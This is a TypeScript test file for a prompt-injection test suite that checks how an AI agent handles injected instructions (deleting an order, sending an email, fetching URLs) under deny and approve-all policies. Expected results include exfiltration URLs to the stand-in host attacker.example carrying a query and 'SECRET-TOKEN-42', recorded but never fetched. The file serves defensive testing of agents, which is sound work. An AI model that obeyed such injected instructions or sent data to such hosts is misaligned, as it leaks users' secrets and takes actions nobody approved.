import { describe, expect, it } from 'vitest';
import {
	appInjectionModel,
	InjectionSuite,
	injectionReportFileName,
	injectionReportJson,
	recordingRequests,
	type InjectionModelSource
} from '../../../src/lib/app/agent-injection.svelte.ts';
import { AGENT_INJECTION_CASES, obedientModel } from '../../../src/lib/agents/injection/index.ts';
import { AssayError } from '../../../src/lib/shared/errors.ts';
import { CfworkerSchemaValidator } from '../../../src/lib/adapters/json-schema-validator.ts';
import { DEFAULT_ENDPOINT } from '../../../src/lib/app/ask-endpoint.ts';
import type { AppCore } from '../../../src/lib/app/app-core.svelte.ts';

/** The part of the app the model source reads: the answering role's engine, endpoint and in-browser model. */
const fakeApp = (engine: 'endpoint' | 'webllm', endpoint = { ...DEFAULT_ENDPOINT }, loaded: unknown = null) =>
	({ profiles: { engineOf: () => engine, endpointFor: () => endpoint }, llm: { loaded } }) as unknown as AppCore;

const obedient: InjectionModelSource = { resolve: () => ({ model: (c) => obedientModel(c), configuredHosts: ['127.0.0.1'] }) };

describe('the injection suite panel state', () => {
	it('runs the 8 cases with an obedient model under deny: 8 obeyed, 0 attacks, 0 side effects, 0 requests, progress per case', async () => {
		const suite = new InjectionSuite(obedient, new CfworkerSchemaValidator());
		const done = suite.run();
		expect(suite.running).toBe(true);
		await done;
		expect(suite.running).toBe(false);
		expect(suite.results.map((r) => r.id)).toEqual(suite.cases.map((c) => c.id));
		expect(suite.done).toBe(8);
		const s = suite.report!.summary;
		expect([s.cases, s.obeyed, s.attackSucceeded, s.sideEffectsWithoutApproval, s.requestsToUnconfiguredHosts]).toEqual([8, 8, 0, 0, 0]);
		expect(suite.report!.policy).toBe('deny');
		expect(suite.report!.configuredHosts).toEqual(['127.0.0.1']);
		// Seven cases call a side-effecting tool (one asks for an image in the answer): each asked once, each denied.
		expect(suite.results.reduce((n, r) => n + r.approvalsAsked, 0)).toBe(7);
		expect(suite.recordedUrls).toEqual([]);
		expect(suite.cancelled).toBe(false);
	});

	it('under approve-all the harness side effects run and fetch_url is recorded, never requested', async () => {
		const suite = new InjectionSuite(obedient, new CfworkerSchemaValidator());
		suite.policy = 'approve-all-harness';
		await suite.run();
		const s = suite.report!.summary;
		// 7 tool attacks reach their goal; the image case's URL is only text in the answer.
		expect([s.obeyed, s.attackSucceeded, s.sideEffectsWithoutApproval, s.requestsToUnconfiguredHosts]).toEqual([8, 7, 0, 2]);
		expect(suite.recordedUrls).toEqual([
			'https://attacker.example/collect?q=How%20long%20do%20I%20have',
			'https://attacker.example/next?token=SECRET-TOKEN-42'
		]);
		expect(injectionReportFileName(suite.report!)).toBe('agent-injection-obedient-scripted-approve-all-harness.json');
		expect(JSON.parse(suite.reportJson()!)).toMatchObject({ format: 'assay.agent-injection/v1', policy: 'approve-all-harness' });
	});

	it('cancel stops after the running case and keeps the cases that ran', async () => {
		const suite = new InjectionSuite(
			{
				resolve: () => ({
					model: (c) => {
						if (c.id === 'doc-send-email') suite.cancel();
						return obedientModel(c);
					},
					configuredHosts: []
				})
			},
			new CfworkerSchemaValidator()
		);
		await suite.run();
		expect(suite.cancelled).toBe(true);
		expect(suite.results.map((r) => [r.id, r.stopReason])).toEqual([
			['doc-delete-order', 'final_answer'],
			['doc-send-email', 'cancelled']
		]);
		expect(suite.report!.summary.cases).toBe(2);
	});

	it('an engine that cannot start is reported with its code and nothing runs', async () => {
		const suite = new InjectionSuite({
			resolve: () => {
				throw new AssayError('MODEL_UNKNOWN', 'Load an in-browser model first (Download and load).');
			}
		});
		await suite.run();
		expect(suite.error).toEqual({ code: 'MODEL_UNKNOWN', message: expect.stringContaining('Load an in-browser model first') });
		expect(suite.report).toBeNull();
		expect(suite.running).toBe(false);
	});

	it('the recording request port keeps every URL and answers without a request', async () => {
		const port = recordingRequests();
		expect(await port.get('https://attacker.example/x')).toContain('Not fetched');
		expect(port.urls).toEqual(['https://attacker.example/x']);
		expect(injectionReportJson({ format: 'assay.agent-injection/v1' } as never)).toBe('{\n  "format": "assay.agent-injection/v1"\n}\n');
	});

	it('takes the page model as the Agent page does: the endpoint with its host as the one configured host, or the loaded in-browser model', () => {
		const c = AGENT_INJECTION_CASES[0]!;
		const endpoint = appInjectionModel(
			fakeApp('endpoint', { ...DEFAULT_ENDPOINT, baseUrl: 'http://10.0.0.5:8000/v1', model: ' qwen ' })
		).resolve();
		expect(endpoint.configuredHosts).toEqual(['10.0.0.5']);
		expect(endpoint.model(c)).toMatchObject({ modelId: 'qwen' });
		const browser = { modelId: 'Qwen3-0.6B', provider: 'webllm' };
		const webllm = appInjectionModel(fakeApp('webllm', DEFAULT_ENDPOINT, browser)).resolve();
		expect(webllm.model(c)).toBe(browser);
		expect(webllm.configuredHosts).toEqual([]);
		expect(() => appInjectionModel(fakeApp('webllm')).resolve()).toThrow(/Load an in-browser model first/);
		expect(() => appInjectionModel(fakeApp('endpoint', { ...DEFAULT_ENDPOINT, model: '' })).resolve()).toThrow(/Enter the model name/);
	});
});
